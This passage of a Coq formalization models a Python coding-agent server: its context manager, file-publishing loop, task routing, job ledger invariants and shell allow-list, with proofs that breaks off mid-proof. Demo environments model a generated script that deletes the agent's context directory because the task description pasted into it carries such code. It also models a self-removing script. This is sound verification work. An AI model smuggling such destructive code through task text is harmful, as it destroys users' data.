     {| w_fs := w_fs w; w_uuids := w_uuids w; w_ticks := w_ticks w;
        w_launched := w_launched w; w_running := w_running w;
        w_context := w_context w ++ [e] |}).

Definition clear : M unit :=
  fun w =>
    (Ok tt,
     {| w_fs := w_fs w; w_uuids := w_uuids w; w_ticks := w_ticks w;
        w_launched := w_launched w; w_running := w_running w;
        w_context := [] |}).

Section WithEnv.
Context (E : env).

Definition _load_recent_context (self : t) : M unit :=
  try_except
    (day_folders <-
       fs_query (fun fs =>
         Ok (rev (sorted (FS.glob_children E (context_dir self) fs)))) ;;
     match day_folders with
     | [] => ret tt
     | recent_folder :: _ =>
         context_files <-
           fs_query (fun fs =>
             Ok (sorted (List.filter is_json
                           (FS.glob_children E recent_folder fs)))) ;;
         for_each
           (skipn (length context_files - 50) context_files)
           (fun file_path =>
              try_except
                (text <- fs_query (FS.read_text E file_path) ;;
                 match e_json_load E text with
                 | Some e => append e
                 | None => raise (ValueError "Expecting value")
                 end)
                (fun _ => ret tt))
     end)
    (fun _ => ret tt).

Definition init (dir : ppath) : M t :=
  fs_update (FS.mkdir E true true dir) ;;;
  clear ;;;
  let self := {| context_dir := dir |} in
  _load_recent_context self ;;;
  ret self.

Definition add (self : t) (message source : string) : M unit :=
  now <- time_time E ;;
  let e := {| entry_time := now; entry_source := source;
              entry_message := message |} in
  append e ;;;
  day_folder <- strftime_day E ;;
  let save_dir := context_dir self // day_folder in
  fs_update (FS.mkdir E false true save_dir) ;;;
  fs_update (FS.write_file E (save_dir // (PyStr.of_int now +:+ ".json"))
               (e_json_dump E e)).

End WithEnv.

End ContextManager.

(** ** Publishing: the copy loop

    [_implement_generic_task], [_implement_react_todo_app] and
    [process_task] all end with the same statements: make the destination
    directory, then copy every regular file found below the source to the
    same relative path below the destination. *)
Module Publish.

Section WithEnv.
Context (E : env).

(** One turn of the loop.  The result says whether a file was copied. *)
Definition copy_item (src dst item : ppath) : M nat :=
  fun w =>
    if FS.is_file E item (w_fs w) then
      (relative_path <- (fun w => (Path.relative_to item src, w)) ;;
       let target_path := Path.join dst relative_path in
       fs_update (FS.mkdir E true true (Path.parent target_path)) ;;;
       fs_update (FS.copy2 E item target_path) ;;;
       ret 1%nat) w
    else (Ok 0%nat, w).

(** [for item in items: ...].  The number returned counts the files
    copied; the source keeps no such count, it is what a publisher
    reporting one would report. *)
Fixpoint copy_items (src dst : ppath) (items : list ppath) : M nat :=
  match items with
  | [] => ret 0%nat
  | item :: items' =>
      n <- copy_item src dst item ;;
      m <- copy_items src dst items' ;;
      ret (n + m)%nat
  end.

(** [for item in src.glob("**/*"): ...].  [glob] reads a directory when
    the walk reaches it; the entries are taken here as they are when the
    loop starts, which is what the walk finds as long as the loop adds
    no entry below [src]. *)
Definition copy_files (src dst : ppath) : M nat :=
  fun w => copy_items src dst (FS.glob_rec E src (w_fs w)) w.

(** [dst.mkdir(parents=parents, exist_ok=True)], then the loop:
    [parents] is [True] in agent.py and left out in server.py. *)
Definition publish (parents : bool) (src dst : ppath) : M nat :=
  fs_update (FS.mkdir E parents true dst) ;;;
  copy_files src dst.

End WithEnv.

End Publish.

(** ** agent.py: the agent *)

(** The string literals of agent.py, which are file contents only. *)
Record templates := {
  generic_readme : string -> string;   (* README.md of a generic task *)
  sample_code : string -> string;      (* main.py of a generic task *)
  generic_graph : string;
  package_json : string;
  index_html : string;
  index_js : string;
  app_js : string;
  styles_css : string;
  react_readme : string -> string;
  react_graph : string
}.

(** The dictionary [execute_task] returns. *)
Inductive task_result :=
| TaskCompleted (task_id output_dir : string)
| TaskFailed (error : string).

Module CodingAgent.

Record t := {
  workspace_dir : ppath;
  outputs_dir : ppath;
  context_dir : ppath;
  shell : ShellTool.t;
  filesystem : FilesystemTool.t;
  code_execution : CodeExecutionTool.t;
  xdot : XdotTool.t;
  context : ContextManager.t
}.

Section WithEnv.
Context (E : env) (T : templates).

Definition init : M t :=
  let workspace_dir := Path.of_str "/workspaces/CodingAgent/agent/workspace" in
  let outputs_dir := Path.of_str "/workspaces/CodingAgent/agent/outputs" in
  let context_dir := Path.of_str "/workspaces/CodingAgent/agent/context" in
  fs_update (FS.mkdir E true true workspace_dir) ;;;
  fs_update (FS.mkdir E true true outputs_dir) ;;;
  fs_update (FS.mkdir E true true context_dir) ;;;
  shell <- ShellTool.init E workspace_dir ;;
  filesystem <- FilesystemTool.init E workspace_dir ;;
  code_execution <- CodeExecutionTool.init E workspace_dir ;;
  xdot <- XdotTool.init E workspace_dir ;;
  context <- ContextManager.init E context_dir ;;
  ret {| workspace_dir := workspace_dir; outputs_dir := outputs_dir;
         context_dir := context_dir; shell := shell;
         filesystem := filesystem; code_execution := code_execution;
         xdot := xdot; context := context |}.

Definition _implement_generic_task (self : t) (task_id : string)
    (task_dir : ppath) (task_description : string) : M task_result :=
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/README.md") (generic_readme T task_description) ;;;
  let code := sample_code T task_description in
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/main.py") code ;;;
  result <- CodeExecutionTool.run_python E (code_execution self) code ;;
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/output.txt") (get_stdout result "No output") ;;;
  XdotTool.create_graph E (xdot self) (generic_graph T)
    (task_id +:+ "/workflow.png") ;;;
  let output_path := outputs_dir self // task_id in
  Publish.publish E true task_dir output_path ;;;
  ContextManager.add E (context self)
    ("Task completed: " +:+ task_description) "system" ;;;
  ret (TaskCompleted task_id (Path.to_str output_path)).

Definition _implement_react_todo_app (self : t) (task_id : string)
    (task_dir : ppath) (task_description : string) : M task_result :=
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/package.json") (package_json T) ;;;
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/public/index.html") (index_html T) ;;;
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/src/index.js") (index_js T) ;;;
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/src/App.js") (app_js T) ;;;
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/src/styles.css") (styles_css T) ;;;
  FilesystemTool.create_file E (filesystem self)
    (task_id +:+ "/README.md") (react_readme T task_description) ;;;
  XdotTool.create_graph E (xdot self) (react_graph T)
    (task_id +:+ "/architecture.png") ;;;
  let output_path := outputs_dir self // task_id in
  Publish.publish E true task_dir output_path ;;;
  ContextManager.add E (context self)
    "Task completed: React todo app implementation" "system" ;;;
  ret (TaskCompleted task_id (Path.to_str output_path)).

Definition execute_task (self : t) (task_description : string)
  : M task_result :=
  try_except
    (task_id <- uuid4 E ;;
     let task_dir := workspace_dir self // task_id in
     fs_update (FS.mkdir E false false task_dir) ;;;
     ContextManager.add E (context self)
       ("New task: " +:+ task_description) "system" ;;;
     if PyStr.contains "todo" (PyStr.lower task_description)
        && PyStr.contains "react" (PyStr.lower task_description)
     then _implement_react_todo_app self task_id task_dir task_description
     else _implement_generic_task self task_id task_dir task_description)
    (fun e =>
       ContextManager.add E (context self)
         ("Task failed: " +:+ exn_str e) "system" ;;;
       ret (TaskFailed (exn_str e))).

End WithEnv.

End CodingAgent.

(** ** server.py: the job ledger and the background runner *)

Inductive status := scheduled | running | completed | failed.

#[global] Instance status_eq_dec : EqDecision status.
Proof. solve_decision. Defined.

(** A record of the [jobs] dictionary. *)
Record job := {
  job_id : string;
  job_task : string;
  job_status : status;
  created_at : Z;
  completed_at : option Z;
  job_error : option string
}.

(** The state of the server: the [jobs] dictionary, the background tasks
    handed to the framework, and the host.  [history] is not in the code:
    it keeps, per job identifier, every value the status field was given,
    oldest first. *)
Record server := {
  jobs : gmap string job;
  history : gmap string (list status);
  queued : list (string * string);   (* process_task calls not begun *)
  started : list (string * string);  (* process_task calls past line 121 *)
  host : world
}.

Module Server.

Definition JOBS_DIR : ppath := Path.of_str "/workspaces/CodingAgent/jobs".

(** The status written when a record is made or changed is appended to
    the history of its identifier. *)
Definition log_status (id : string) (st : status)
    (h : gmap string (list status)) : gmap string (list status) :=
  <[id := (default [] (h !! id) ++ [st])%list]> h.

(** [jobs[job_id]["status"] = st], a [KeyError] when the job is absent. *)
Definition set_status (id : string) (st : status) (s : server)
  : res unit * server :=
  match jobs s !! id with
  | Some j =>
      (Ok tt,
       {| jobs := <[id := {| job_id := job_id j; job_task := job_task j;
                             job_status := st; created_at := created_at j;
                             completed_at := completed_at j;
                             job_error := job_error j |}]> (jobs s);
          history := log_status id st (history s);
          queued := queued s; started := started s; host := host s |})
  | None => (Raise (KeyError id), s)
  end.

(** [jobs[job_id]["error"] = msg]. *)
Definition set_error (id : string) (msg : string) (s : server)
  : res unit * server :=
  match jobs s !! id with
  | Some j =>
      (Ok tt,
       {| jobs := <[id := {| job_id := job_id j; job_task := job_task j;
                             job_status := job_status j;
                             created_at := created_at j;
                             completed_at := completed_at j;
                             job_error := Some msg |}]> (jobs s);
          history := history s;
          queued := queued s; started := started s; host := host s |})
  | None => (Raise (KeyError id), s)
  end.

(** [jobs[job_id]["completed_at"] = t]. *)
Definition set_completed_at (id : string) (t : Z) (s : server)
  : res unit * server :=
  match jobs s !! id with
  | Some j =>
      (Ok tt,
       {| jobs := <[id := {| job_id := job_id j; job_task := job_task j;
                             job_status := job_status j;
                             created_at := created_at j;
                             completed_at := Some t;
                             job_error := job_error j |}]> (jobs s);
          history := history s;
          queued := queued s; started := started s; host := host s |})
  | None => (Raise (KeyError id), s)
  end.

(** Run a computation on the host. *)
Definition on_host {A} (m : M A) (s : server) : res A * server :=
  let '(r, w') := m (host s) in
  (r, {| jobs := jobs s; history := history s; queued := queued s;
         started := started s; host := w' |}).

Section WithEnv.
Context (E : env) (T : templates).

(** [POST /schedule]: the job identifier answered, or the exception
    that leaves the handler. *)
Definition schedule_task (task : string) (s : server)
  : res string * server :=
  match on_host
          (id <- uuid4 E ;;
           let job_dir := Path.join JOBS_DIR (Path.of_str id) in
           fs_update (FS.mkdir E false true job_dir) ;;;
           fs_update (FS.write_file E (job_dir // "task.txt") task) ;;;
           now <- time_time E ;;
           ret (id, now)) s with
  | (Ok (id, now), s1) =>
      (Ok id,
       {| jobs := <[id := {| job_id := id; job_task := task;
                             job_status := scheduled; created_at := now;
                             completed_at := None;
                             job_error := None |}]> (jobs s1);
          history := log_status id scheduled (history s1);
          queued := queued s1 ++ [(id, task)];
          started := started s1; host := host s1 |})
  | (Raise e, s1) => (Raise e, s1)
  end.

(** The handler of [process_task]: [jobs[job_id]["status"] = "failed"],
    then the error message; a [KeyError] here leaves the function. *)
Definition on_exception (id : string) (e : exn) (s : server)
  : res unit * server :=
  match set_status id failed s with
  | (Ok _, s1) => set_error id (exn_str e) s1
  | (Raise e', s1) => (Raise e', s1)
  end.

(** Line 121 of [process_task], inside its [try]. *)
Definition process_task_begin (id : string) (s : server)
  : res unit * server :=
  set_status id running s.

(** Lines 123-148 of [process_task], inside its [try]. *)
Definition process_task_body (id task : string) (s : server)
  : res unit * server :=
  match on_host (agent <- CodingAgent.init E ;;
                 CodingAgent.execute_task E T agent task) s with
  | (Ok (TaskCompleted _ output_dir), s1) =>
      let output_src := Path.of_str output_dir in
      let output_dst := Path.join JOBS_DIR (Path.of_str id) // "output" in
      match on_host (Publish.publish E false output_src output_dst) s1 with
      | (Ok _, s2) =>
          match set_status id completed s2 with
          | (Ok _, s3) =>
              match on_host (time_time E) s3 with
              | (Ok now, s4) => set_completed_at id now s4
              | (Raise e, s4) => (Raise e, s4)
              end
          | (Raise e, s3) => (Raise e, s3)
          end
      | (Raise e, s2) => (Raise e, s2)
      end
  | (Ok (TaskFailed error), s1) =>
      match set_status id failed s1 with
      | (Ok _, s2) => set_error id error s2
      | (Raise e, s2) => (Raise e, s2)
      end
  | (Raise e, s1) => (Raise e, s1)
  end.

(** What is left of [process_task] once line 121 has run. *)
Definition process_task_finish (id task : string) (s : server)
  : res unit * server :=
  match process_task_body id task s with
  | (Ok _, s1) => (Ok tt, s1)
  | (Raise e, s1) => on_exception id e s1
  end.

(** [process_task(job_id, task)] as a whole. *)
Definition process_task (id task : string) (s : server)
  : res unit * server :=
  match process_task_begin id s with
  | (Ok _, s1) => process_task_finish id task s1
  | (Raise e, s1) => on_exception id e s1
  end.

Definition dequeue (id task : string) (l : list (string * string))
  : list (string * string) :=
  filter (fun jt => jt <> (id, task)) l.

(** The steps of the server.  A request is scheduled, under an
    identifier [uuid.uuid4()] has not returned before; a queued
    background task runs its first statement, or fails at it and goes
    through the handler; a begun one runs to its end.  A request
    handler that raises leaves the ledger as it is. *)
Inductive step : server -> server -> Prop :=
| step_schedule task s id s' :
    schedule_task task s = (Ok id, s') ->
    jobs s !! id = None ->
    step s s'
| step_schedule_raises task s e s' :
    schedule_task task s = (Raise e, s') ->
    step s s'
| step_begin id task s s' :
    (id, task) ∈ queued s ->
    process_task_begin id s = (Ok tt, s') ->
    step s
      {| jobs := jobs s'; history := history s';
         queued := dequeue id task (queued s');
         started := started s' ++ [(id, task)]; host := host s' |}
| step_begin_raises id task s e s1 r s' :
    (id, task) ∈ queued s ->
    process_task_begin id s = (Raise e, s1) ->
    on_exception id e s1 = (r, s') ->
    step s
      {| jobs := jobs s'; history := history s';
         queued := dequeue id task (queued s');
         started := started s'; host := host s' |}
| step_finish id task s r s' :
    (id, task) ∈ started s ->
    process_task_finish id task s = (r, s') ->
    step s
      {| jobs := jobs s'; history := history s';
         queued := queued s';
         started := dequeue id task (started s'); host := host s' |}.

Definition initial (w : world) : server :=
  {| jobs := ∅; history := ∅; queued := []; started := []; host := w |}.

Inductive reachable : server -> Prop :=
| reachable_initial w : reachable (initial w)
| reachable_step s s' : reachable s -> step s s' -> reachable s'.

End WithEnv.

End Server.

(** ** Concrete hosts, for the examples *)
Module Demo.

Definition workspace : ppath := Path.of_str "/ws".

Definition shell_tool : ShellTool.t :=
  {| ShellTool.workspace_dir := workspace;
     ShellTool.allowed_commands :=
       {[ "ls"; "cat"; "echo"; "mkdir"; "touch"; "rm"; "cp"; "mv";
          "npm"; "npx"; "node"; "python"; "pip" ]} |}.

Definition fs_tool : FilesystemTool.t :=
  {| FilesystemTool.workspace_dir := workspace |}.

Definition code_tool : CodeExecutionTool.t :=
  {| CodeExecutionTool.workspace_dir := workspace |}.

(** A host whose children behave as [run] says, and whose special
    files are as [/dev/null] is: they take what is written and give
    nothing. *)
Definition env_with (run : launch -> gmap (list string) node -> run_outcome)
  : env :=
  {| e_cwd := [];
     e_uuid := fun n => "0000-" +:+ PyStr.of_int (Z.of_nat n);
     e_time := fun n => 1700000000 + Z.of_nat n;
     e_today := fun _ => "2024-01-01";
     e_run := run;
     e_special_write := fun _ _ => Ok tt;
     e_special_read := fun _ => Ok "";
     e_special_unlink := fun _ => None;
     e_json_dump := fun e => entry_message e;
     e_json_load := fun _ => None |}.

(** Every child prints nothing and exits with code [rc], leaving the
    files alone. *)
Definition env_exits (rc : Z) : env :=
  env_with (fun _ fs => Exits (Text "") (Text "") rc fs []).

(** Every child is still running when its timeout expires, and has
    started nothing of its own. *)
Definition env_overruns : env := env_with (fun _ fs => Overruns fs []).

(** Every child is still running when its timeout expires; a shell has
    started the command it was given as a process of its own, which is
    alive when the shell is killed. *)
Definition env_shell_overruns : env :=
  env_with (fun l fs =>
    match l_cmd l with
    | Shell command => Overruns fs [command]
    | Argv _ => Overruns fs []
    end).

(** Every child writes the byte 0xff to its standard output, which is
    no UTF-8 text, and exits with code 0. *)
Definition env_undecodable : env :=
  env_with (fun _ fs =>
    Exits (Undecodable
             "'utf-8' codec can't decode byte 0xff in position 0: invalid start byte")
          (Text "") 0 fs []).

(** No program can be started. *)
Definition env_no_launch : env :=
  env_with (fun l _ =>
    LaunchError (FileNotFoundError
                   match l_cmd l with
                   | Argv (prog :: _) => prog
                   | _ => "/bin/sh"
                   end)).

(** A child that removes the script it is given as its last argument,
    as a snippet calling [os.remove(__file__)] does, and exits with
    code 1. *)
Definition env_self_removing : env :=
  env_with (fun l fs =>
    match l_cmd l with
    | Argv args =>
        match FS.unlink (env_exits 0) (Path.of_str (List.last args "")) fs with
        | Ok fs' => Exits (Text "") (Text "") 1 fs' []
        | Raise _ => Exits (Text "") (Text "") 1 fs []
        end
    | Shell _ => Exits (Text "") (Text "") 1 fs []
    end).

(** A host with the workspace directory [/ws] and nothing else. *)
Definition world0 : world :=
  {| w_fs := {[ ["ws"] := Dir ]};
     w_uuids := 0; w_ticks := 0; w_launched := []; w_running := [];
     w_context := [] |}.

(** A host with the workspace directory [/ws] and the device
    [/dev/null]. *)
Definition world_dev : world :=
  {| w_fs := {[ ["ws"] := Dir; ["dev"] := Dir;
                ["dev"; "null"] := Special false "null" ]};
     w_uuids := 0; w_ticks := 0; w_launched := []; w_running := [];
     w_context := [] |}.

(** Short stand-ins for the file contents. *)
Definition texts : templates :=
  {| generic_readme := fun d => "# Task " +:+ d;
     sample_code := fun d => "print('Working on: " +:+ d +:+ "')";
     generic_graph := "digraph G { Task -> Output; }";
     package_json := "{}";
     index_html := "<html></html>";
     index_js := "import App from './App';";
     app_js := "export default App;";
     styles_css := "body { margin: 0; }";
     react_readme := fun d => "# React Todo App " +:+ d;
     react_graph := "digraph TodoApp { User -> App; }" |}.

(** A host where the agent's directories exist and the entry of the
    context directory named after today is a regular file. *)
Definition world_day_is_file : world :=
  {| w_fs := {[ ["workspaces"] := Dir;
                ["workspaces"; "CodingAgent"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"; "workspace"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"; "outputs"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"; "context"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"; "context"; "2024-01-01"]
                  := File "" ]};
     w_uuids := 0; w_ticks := 0; w_launched := []; w_running := [];
     w_context := [] |}.

(** A host where the agent's directories exist and are empty. *)
Definition world_agent : world :=
  {| w_fs := {[ ["workspaces"] := Dir;
                ["workspaces"; "CodingAgent"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"; "workspace"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"; "outputs"] := Dir;
                ["workspaces"; "CodingAgent"; "agent"; "context"] := Dir;
                ["workspaces"; "CodingAgent"; "jobs"] := Dir ]};
     w_uuids := 0; w_ticks := 0; w_launched := []; w_running := [];
     w_context := [] |}.

(** The agent [CodingAgent()] builds. *)
Definition agent : CodingAgent.t :=
  let workspace_dir := Path.of_str "/workspaces/CodingAgent/agent/workspace" in
  {| CodingAgent.workspace_dir := workspace_dir;
     CodingAgent.outputs_dir :=
       Path.of_str "/workspaces/CodingAgent/agent/outputs";
     CodingAgent.context_dir :=
       Path.of_str "/workspaces/CodingAgent/agent/context";
     CodingAgent.shell :=
       {| ShellTool.workspace_dir := workspace_dir;
          ShellTool.allowed_commands := ShellTool.allowed_commands shell_tool |};
     CodingAgent.filesystem :=
       {| FilesystemTool.workspace_dir := workspace_dir |};
     CodingAgent.code_execution :=
       {| CodeExecutionTool.workspace_dir := workspace_dir |};
     CodingAgent.xdot := {| XdotTool.workspace_dir := workspace_dir |};
     CodingAgent.context :=
       {| ContextManager.context_dir :=
            Path.of_str "/workspaces/CodingAgent/agent/context" |} |}.

(** A host whose python3 children remove the agent's context directory
    with all it holds, as the generated script does when the task
    description, which is pasted into it, carries a line of code doing
    so; every child exits with code 0. *)
Definition env_child_removes_context : env :=
  env_with (fun l fs =>
    match l_cmd l with
    | Argv ("python3" :: _) =>
        Exits (Text "") (Text "") 0
          (filter (fun kv =>
                     Path.strip ["workspaces"; "CodingAgent"; "agent"; "context"]
                       (fst kv) = None) fs) []
    | _ => Exits (Text "") (Text "") 0 fs []
    end).

End Demo.

(** ** Vocabulary of the proofs *)

(** Every directory of [fs] is a directory of [fs']. *)
Definition dirs_kept (fs fs' : gmap (list string) node) : Prop :=
  forall loc, FS.stat fs loc = Some Dir -> FS.stat fs' loc = Some Dir.

(** [p] names an ordinary file: a file that keeps what is written to
    it, which a device, a pipe or an entry of [/proc] does not. *)
Definition keeps_content (E : env) (p : ppath)
    (fs : gmap (list string) node) : bool :=
  match FS.locate E p fs with
  | Ok loc => match FS.stat fs loc with Some (File _) => true | _ => false end
  | Raise _ => false
  end.

(** The string holds a carriage return. *)
Fixpoint has_cr (s : string) : bool :=
  match s with
  | EmptyString => false
  | String c s' => Ascii.eqb c "013" || has_cr s'
  end.

(** Every node of [fs] is still there in [fs'], a directory as a
    directory, a file as a file and a special node as it was. *)
Definition grows (fs fs' : gmap (list string) node) : Prop :=
  forall loc n,
    fs !! loc = Some n ->
    match n with
    | File _ => exists c', fs' !! loc = Some (File c')
    | _ => fs' !! loc = Some n
    end.

(** [fs'] is [fs] with directories added where nothing was. *)
Definition adds_dirs (fs fs' : gmap (list string) node) : Prop :=
  forall loc,
    fs' !! loc = fs !! loc \/ (fs !! loc = None /\ fs' !! loc = Some Dir).

(** The content of [item] when it is a regular file. *)
Definition file_content (E : env) (item : ppath)
    (fs : gmap (list string) node) : option string :=
  match FS.read_bytes E item fs with
  | Ok c => Some c
  | Raise _ => None
  end.

(** The source [src] is in [fs'] what it was in [fs]: walking it lists
    the same entries, and each of them is a regular file of the same
    content, or no regular file, in both. *)
Definition source_unchanged (E : env) (src : ppath)
    (fs fs' : gmap (list string) node) : Prop :=
  FS.glob_rec E src fs' = FS.glob_rec E src fs
  /\ forall item, item ∈ FS.glob_rec E src fs ->
                  file_content E item fs' = file_content E item fs.

(** Below the location [L], [fs] holds directories and ordinary files
    only. *)
Definition plain (fs : gmap (list string) node) (L : list string) : Prop :=
  forall rel r d, fs !! (L ++ rel)%list <> Some (Special r d).

(** The same of the directory [p], as a test: no special file is kept
    below the location [p] names. *)
Definition ordinary_below (E : env) (p : ppath)
    (fs : gmap (list string) node) : bool :=
  match FS.locate E p fs with
  | Ok loc =>
      forallb (fun kv =>
                 match Path.strip loc (fst kv), snd kv with
                 | Some _, Special _ _ => false
                 | _, _ => true
                 end)
              (map_to_list fs)
  | Raise _ => true
  end.

(** The entry of [src] with the relative names [rel]. *)
Definition entry_of (src : ppath) (rel : list string) : ppath :=
  {| p_anchor := p_anchor src; p_parts := p_parts src ++ rel |}.

(** The source and the destination are found at the locations [S] and
    [D]. *)
Definition based (E : env) (src dst : ppath) (S D : list string)
    (fs : gmap (list string) node) : Prop :=
  FS.locate E src fs = Ok S /\ FS.locate E dst fs = Ok D.

(** Below the location [S], the names [rel] lead to a regular file of
    content [c]. *)
Definition source_file (fs : gmap (list string) node) (S rel : list string)
    (c : string) : Prop :=
  FS.walk fs "" S rel = Ok (S ++ rel)%list
  /\ fs !! (S ++ rel)%list = Some (File c).

(** The copy of the entry [rel] is in place at the location [a]: the
    directory that holds the target exists, [a] is the location [copy2]
    writes to (the target, or the entry of the source's name in it when
    the target is a directory), a regular file is there, and it is not
    the source itself. *)
Definition placed (E : env) (dst : ppath) (S D : list string)
    (fs : gmap (list string) node) (rel a : list string) : Prop :=
  FS.is_dir E (Path.parent (entry_of dst rel)) fs = true
  /\ a <> (S ++ rel)%list
  /\ (exists c, fs !! a = Some (File c))
  /\ ((a = (D ++ rel)%list /\ FS.walk fs "" D rel = Ok a)
      \/ (a = (D ++ rel ++ [List.last rel ""])%list
          /\ FS.is_dir E (entry_of dst rel) fs = true
          /\ FS.walk fs "" D (rel ++ [List.last rel ""]) = Ok a)).

(** The names of an entry the loop can meet. *)
Definition entry_names (rel : list string) : Prop :=
  forallb FS.is_entry_name rel = true /\ rel <> [].

(** One turn of the copy loop and the whole loop, on the file system
    alone. *)
Definition copy_item_fs (E : env) (src dst item : ppath)
    (fs : gmap (list string) node) : res (nat * gmap (list string) node) :=
  if FS.is_file E item fs then
    match Path.relative_to item src with
    | Ok relative_path =>
        let target_path := Path.join dst relative_path in
        match FS.mkdir E true true (Path.parent target_path) fs with
        | Ok fs1 =>
            match FS.copy2 E item target_path fs1 with
            | Ok fs2 => Ok (1%nat, fs2)
            | Raise e => Raise e
            end
        | Raise e => Raise e
        end
    | Raise e => Raise e
    end
  else Ok (0%nat, fs).

Fixpoint copy_items_fs (E : env) (src dst : ppath) (items : list ppath)
    (fs : gmap (list string) node) : res (nat * gmap (list string) node) :=
  match items with
  | [] => Ok (0%nat, fs)
  | item :: items' =>
      match copy_item_fs E src dst item fs with
      | Ok (n, fs1) =>
          match copy_items_fs E src dst items' fs1 with
          | Ok (m, fs2) => Ok ((n + m)%nat, fs2)
          | Raise e => Raise e
          end
      | Raise e => Raise e
      end
  end.

(** The number of regular files among [items]. *)
Definition count_files (E : env) (items : list ppath)
    (fs : gmap (list string) node) : nat :=
  length (List.filter (fun item => FS.is_file E item fs) items).

(** The status sequences a job may have gone through. *)
Definition lifecycle (h : list status) : Prop :=
  h = [scheduled] \/ h = [scheduled; running]
  \/ h = [scheduled; running; completed] \/ h = [scheduled; running; failed].

(** What holds of the ledger in every state the server reaches: a queued
    task has a job that was only scheduled, a begun one a job that is
    running, each identifier is queued or begun at most once, and the
    history of a job ends with the status its record shows. *)
Record ledger_inv (s : server) : Prop := {
  inv_queued_nodup : NoDup (queued s).*1;
  inv_started_nodup : NoDup (started s).*1;
  inv_queued : forall id task,
    (id, task) ∈ queued s -> history s !! id = Some [scheduled];
  inv_started : forall id task,
    (id, task) ∈ started s -> history s !! id = Some [scheduled; running];
  inv_fresh : forall id, jobs s !! id = None -> history s !! id = None;
  inv_history : forall id h,
    history s !! id = Some h ->
    lifecycle h
    /\ exists j, jobs s !! id = Some j /\ last h = Some (job_status j)
}.

(** The ledger of [s'] is the one of [s] with the status of job [id]
    set to [st] and logged. *)
Definition status_written (id : string) (st : status) (s s' : server) : Prop :=
  (exists j j', jobs s !! id = Some j /\ job_status j' = st
                /\ jobs s' = <[id := j']> (jobs s))
  /\ history s' = Server.log_status id st (history s)
  /\ queued s' = queued s /\ started s' = started s.

(** The ledger of [s'] is the one of [s] but for fields of job [id] that
    are not its status. *)
Definition status_untouched (id : string) (s s' : server) : Prop :=
  (forall j, jobs s !! id = Some j ->
     exists j', job_status j' = job_status j /\ jobs s' = <[id := j']> (jobs s))
  /\ history s' = history s
  /\ queued s' = queued s /\ started s' = started s.

(** A workspace with two files, one in a directory of its own, to be
    published to [/out/x]. *)
Definition world_publish : world :=
  {| w_fs := {[ ["ws"] := Dir;
                ["ws"; "a"] := Dir;
                ["ws"; "a"; "f.txt"] := File "1";
                ["ws"; "g.txt"] := File "2" ]};
     w_uuids := 0; w_ticks := 0; w_launched := []; w_running := [];
     w_context := [] |}.

Definition world_published : world :=
  snd (Publish.publish (Demo.env_exits 0) true (Path.of_str "/ws")
         (Path.of_str "/out/x") world_publish).

(** The server of the examples: one request on the host [world_agent],
    scheduled, begun and run to its end. *)
Definition served_0 : server := Server.initial Demo.world_agent.

Definition served_1 : server :=
  snd (Server.schedule_task (Demo.env_exits 0) "build a thing" served_0).

Definition served_2 : server :=
  let s' := snd (Server.process_task_begin "0000-0" served_1) in
  {| jobs := jobs s'; history := history s';
     queued := Server.dequeue "0000-0" "build a thing" (queued s');
     started := (started s' ++ [("0000-0", "build a thing")])%list;
     host := host s' |}.

Definition served_3 : server :=
  let s' := snd (Server.process_task_finish (Demo.env_exits 0) Demo.texts
                   "0000-0" "build a thing" served_2) in
  {| jobs := jobs s'; history := history s'; queued := queued s';
     started := Server.dequeue "0000-0" "build a thing" (started s');
     host := host s' |}.

(** * Properties *)

(** ** ShellTool.execute *)

Section ShellToolFacts.
Context (E : env) (self : ShellTool.t).

Lemma execute_allowed command base rest w :
  PyStr.split command = base :: rest ->
  base ∈ ShellTool.allowed_commands self ->
  ShellTool.execute E self command w =
    match Subprocess.run E (ShellTool.request self command) w with
    | (Ok (out, err, rc), w') => (Ok (ROutput out err rc), w')
    | (Raise e, w') => (Ok (RError (exn_str e)), w')
    end.
Proof.
  intros Hsplit Hin. unfold ShellTool.execute. rewrite Hsplit.
  rewrite bool_decide_eq_true_2 by exact Hin. cbn [negb].
  unfold try_except, bind, ret.
  destruct (Subprocess.run E _ w) as [[[[out err] rc]|e] w']; reflexivity.
Qed.

(** The child can enter a directory. *)
Lemma chdir_into_dir d fs :
  FS.is_dir E (Path.of_str d) fs = true -> Subprocess.chdir_error E d fs = None.
Proof.
  unfold FS.is_dir, FS.is_dir_at, Subprocess.chdir_error.
  destruct (FS.locate E (Path.of_str d) fs) as [loc|e]; [|discriminate].
  by destruct (FS.stat fs loc) as [[c| |r dev]|].
Qed.

(** When the host can start the child, [subprocess.run] starts exactly
    one, with the request it was given. *)
Lemma run_launches (l : launch) w :
  (forall d, l_cwd l = Some d -> FS.is_dir E (Path.of_str d) (w_fs w) = true) ->
  (forall e, e_run E l (w_fs w) <> LaunchError e) ->
  w_launched (snd (Subprocess.run E l w)) = (w_launched w ++ [l])%list.
Proof.
  intros Hcwd Hrun. unfold Subprocess.run.
  assert (Hin : from_option (fun d => Subprocess.chdir_error E d (w_fs w))
                  None (l_cwd l) = None).
  { destruct (l_cwd l) as [d|]; [|reflexivity].
    cbn [from_option]. by apply chdir_into_dir, Hcwd. }
  rewrite Hin.
  destruct (e_run E l (w_fs w)) as [e|out err rc fs' orphans|fs' orphans] eqn:Hr.
  - by destruct (Hrun e).
  - by destruct (Subprocess.decode out err) as [[o e]|ex].
  - reflexivity.
Qed.

(** C3. A command whose first whitespace-separated token is outside the
    allow-list is answered with the "Command not allowed" error, and
    the host is left exactly as it was: no child is started, no file is
    touched. *)
Theorem execute_rejects_disallowed command base rest w :
  PyStr.split command = base :: rest ->
  base ∉ ShellTool.allowed_commands self ->
  ShellTool.execute E self command w
  = (Ok (RError ("Command not allowed: " +:+ base)), w).
Proof.
